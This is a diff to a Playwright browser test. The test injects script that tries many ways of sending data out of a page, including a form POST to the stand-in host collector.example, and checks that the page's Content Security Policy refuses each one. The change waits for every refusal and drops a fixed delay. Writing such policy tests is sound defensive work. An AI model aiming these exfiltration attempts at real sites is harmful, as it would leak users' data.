@@ -11,7 +11,9 @@ from playwright.sync_api import Frame, Page, expect
 from tests.browser.conftest import Opens
 from tests.browser.harness import Server, serving
 
-TRIES = """() => { setTimeout(async () => {
+SENDING = {"connect-src", "form-action", "img-src", "script-src-elem", "style-src-elem", "frame-src", "object-src", "base-uri"}
+
+TRIES = """sending => { setTimeout(async () => {
   const refused = new Set();
   document.addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
   const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
@@ -31,19 +33,20 @@ TRIES = """() => { setTimeout(async () => {
   add("iframe", { name: "sink" });
   const form = add("form", { method: "post", action: "https://collector.example/", target: "sink" });
   form.submit();
-  await new Promise((done) => setTimeout(done, 300));
+  const pause = (ms) => new Promise((done) => setTimeout(done, ms)), until = performance.now() + 10000;
+  while (!sending.every((name) => refused.has(name)) && performance.now() < until) await pause(50);
+  await pause(300);
   window.tumenFound = { refused: [...refused], ran: window.tumenRan };
 }, 0); }"""
 """Everything that a script could try to tell what it has found, or to get more; what was refused, and what ran.
 
-It runs by a timer of the page, since the policy does not hold for what the browser is told to evaluate.
+It runs by a timer of the page, since the policy does not hold for what the browser is told to evaluate. What it waits for is
+that each way of sending was refused; a busy browser tells of a form late.
 """
-
-SENDING = {"connect-src", "form-action", "img-src", "script-src-elem", "style-src-elem", "frame-src", "object-src", "base-uri"}
 
 
 def tried(where: Page | Frame) -> tuple[set[str], set[str]]:
-    where.evaluate(TRIES)
+    where.evaluate(TRIES, sorted(SENDING))
     found = where.evaluate(
         "new Promise(done => { const look = () => window.tumenFound ? done(window.tumenFound) : setTimeout(look, 50); look(); })"
     )
